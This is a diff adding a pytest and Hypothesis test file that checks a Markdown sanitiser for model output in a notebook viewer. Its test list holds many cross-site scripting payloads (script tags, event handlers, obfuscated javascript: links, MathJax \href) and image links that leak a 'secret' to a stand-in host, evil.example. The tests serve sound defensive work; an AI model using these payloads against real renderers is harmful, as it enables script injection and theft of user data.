@@ -1,0 +1,134 @@
+"""Model output can be shown as Markdown and do nothing but read."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from cometnb.view.neutral import neutral_markdown
+
+_HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<style>*{display:none}</style>",
+    "<svg/onload=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](  JaVaScRiPt:alert(1))",
+    "[x](\njavascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](&#106;avascript:alert(1))",
+    "[x](\\javascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:x)",
+    "[x](/api/kernels)",
+    "[x](//evil.example/x)",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "[x][r]\n\n[r]:\n  javascript:alert(1)",
+    "[x][r]\n\n> [r]: javascript:alert(1)",
+    "[javascript:alert(1)]: javascript:alert(1)\n\n[javascript:alert(1)]",
+    "![x](https://evil.example/?leak=secret)",
+    "![](https://evil.example/?leak=secret)",
+    "\\\\![x](https://evil.example/?leak=secret)",
+    "![x][r]\n\n[r]: https://evil.example/?leak=secret",
+    "[![x](https://evil.example/a.png)](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "`<script>`",
+    "`a` <b> `c`",
+    "`unclosed <script>alert(1)</script>\n\nmore `",
+    "```\n<b>\n```\n<script>alert(1)</script>",
+    "```\n```~\n<script>alert(1)</script>",
+    "~~~\n```\n<script>alert(1)</script>\n```\n~~~\n<script>alert(2)</script>",
+    "- a\n  ```\n  <script>alert(1)</script>\n  ```",
+    "> ```\n> <script>alert(1)</script>",
+    "- a\n\n      <script>alert(1)</script>",
+    "    <script>alert(1)</script>",
+    "<div>\n```\n<script>alert(1)</script>\n```\n</div>",
+    "<!--\n```\n--><script>alert(1)</script>",
+    "| a |\n|---|\n| `x|<script>alert(1)</script>|y` |",
+    "$\\href{javascript:alert(1)}{x}$",
+    "$$\n\\href{javascript:alert(1)}{x}\n$$",
+    "$a<script>alert(1)</script>$",
+    "\\[ \\style{background:url(https://evil.example)}{x} \\]",
+    "```mermaid\nflowchart LR\n A@{img: 'https://evil.example/x.png'}\n```",
+    "# <script>alert(1)</script>",
+    "x\n<script>alert(1)</script>\n===",
+    "\x00<script>alert(1)</script>",
+    "\r<script>alert(1)</script>",
+    "a\u2028<script>alert(1)</script>",
+]
+
+_TAG = re.compile(r"<(?!/?(?:code|pre|p|ul|ol|li|em|strong|h[1-6]|hr|br|table|thead|tbody|tr|t[hd]|blockquote|a|del)\b)")
+_LINK = re.compile(r'(?:href|src)="([^"]*)"')
+
+
+def _rendered(text: str) -> str:
+    """Render as the most trusting front end would: raw HTML passes."""
+    return MarkdownIt("commonmark", {"html": True}).enable("table").render(neutral_markdown(text))
+
+
+@pytest.mark.parametrize("text", _HOSTILE)
+def test_no_hostile_markdown_becomes_a_tag_or_a_link_elsewhere(text: str) -> None:
+    """Rendered by a parser that passes HTML, only formatting tags and http(s) links are left."""
+    html = _rendered(text)
+    assert not _TAG.search(html)
+    assert not re.search(r"<\w[^>]*\son\w+=", html)
+    assert "<img" not in html
+    assert all(link.startswith(("http://", "https://", "mailto:")) for link in _LINK.findall(html))
+
+
+@pytest.mark.parametrize("text", [one for one in _HOSTILE if "\\href" in one or "\\style" in one])
+def test_active_maths_commands_are_spelled_out(text: str) -> None:
+    """MathJax is left nothing that links, styles or loads."""
+    assert not re.search(r"\\(href|style)", neutral_markdown(text))
+
+
+@given(st.lists(st.sampled_from([*"`$<>[]()!\\:~-|# \n\t", "```", "~~~", "    ", "> ", "- ", "a", "https://a.b", "javascript:"]), max_size=40))
+def test_no_mixture_of_marks_becomes_html(pieces: list[str]) -> None:
+    """Whatever marks are mixed, no tag but formatting and no link but http(s) comes out."""
+    html = _rendered("".join(pieces))
+    assert not _TAG.search(html)
+    assert "<img" not in html
+    assert all(link.startswith(("http://", "https://", "mailto:")) for link in _LINK.findall(html))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Plain *text* with **marks** and `code`.",
+        "# Title\n\n- a\n- b\n  1. c\n\n> quote",
+        "```python\nx = [1, 2][0]\n```",
+        "| a | b |\n|---|---|\n| 1 | 2 |",
+        "[link](https://example.org/a?b=c) and https://example.org",
+        "$x^2$ and\n\n$$\ny\n$$",
+        "- item\n\n  ```python\n  x = 1\n  ```",
+    ],
+)
+def test_harmless_markdown_stays_as_it_is(text: str) -> None:
+    """Ordinary answers are not touched."""
+    assert neutral_markdown(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("a < b", "a &lt; b"),
+        ("$a<b$", "$a\\lt b$"),
+        ("\\(x\\)", "$x$"),
+        ("\\[x\\]", "$$x$$"),
+        ("`\\(x\\)`", "`\\(x\\)`"),
+        ("![cat](https://a.b/c.png)", "[cat](https://a.b/c.png)"),
+        ("![](https://a.b/c.png)", "[image](https://a.b/c.png)"),
+        ("<https://a.b>", "https://a.b"),
+        ("```py\nopen", "```py\nopen\n```"),
+    ],
+)
+def test_says_the_same_in_another_way(text: str, shown: str) -> None:
+    """What had to be rewritten still reads as it was meant."""
+    assert neutral_markdown(text) == shown
